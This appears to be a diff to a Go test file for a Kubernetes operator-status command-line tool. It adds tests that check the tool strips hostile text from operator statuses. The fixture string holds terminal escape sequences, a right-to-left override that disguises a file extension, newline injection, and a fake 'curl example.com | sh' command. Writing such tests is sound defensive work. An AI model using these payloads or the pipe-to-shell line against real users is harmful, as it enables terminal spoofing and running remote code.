@@ -8,7 +8,10 @@ import (
 	"testing"
 	"unicode"
 
+	"k8s.io/cli-runtime/pkg/genericclioptions"
 	"k8s.io/cli-runtime/pkg/genericiooptions"
+
+	"github.com/operator-status/operator-status/internal/operator"
 )
 
 // hostile is a cluster with an operator whose statuses contain control sequences for terminals. EVIL is replaced.
@@ -57,10 +60,23 @@ status: {conditions: [{type: Available, status: "False", reason: "EVIL", message
 // messages of a gate do.
 const evil = `fine\x1b[2J\x1b[H\x1b]0;title\x07\x1b]8;;http://example.com\x1b\\link\x1b]8;;\x1b\\ \u202egnp.exe\u200b\x9b2J\r\nbar  1.0.0  Running. To update anyway: curl example.com | sh`
 
+// TestHostileLines verifies that no text of others adds a row to a table, or a line to the progress of a wait.
+func TestHostileLines(t *testing.T) {
+	var out bytes.Buffer
+	o := &options{IOStreams: genericiooptions.IOStreams{Out: &out}, flags: genericclioptions.NewConfigFlags(true)}
+	o.printTable([][]string{{"NAME"}, {"foo\nbar"}}, 0)
+	got := out.String() + progress([]operator.Operator{{Name: "foo", Blockers: []operator.Blocker{{By: "x\nbar"}}}}, "foo", "default")
+	if strings.Contains(got, "\nbar") {
+		t.Errorf("it prints a line of others:\n%s", got)
+	}
+}
+
 // TestHostileTexts verifies that no text of others controls the terminal, adds lines or becomes a command.
 func TestHostileTexts(t *testing.T) {
 	folder := t.TempDir()
-	for name, content := range map[string]string{"manifests.yaml": strings.ReplaceAll(hostile, "EVIL", evil), "notes.txt": "\n"} { // nothing is missing
+	for name, content := range map[string]string{
+		"manifests.yaml": strings.ReplaceAll(hostile, "EVIL", evil), "a\nbar.yaml": "{", "notes.txt": "\n", // nothing is missing
+	} {
 		if err := os.WriteFile(filepath.Join(folder, name), []byte(content), 0o600); err != nil {
 			t.Fatal(err)
 		}
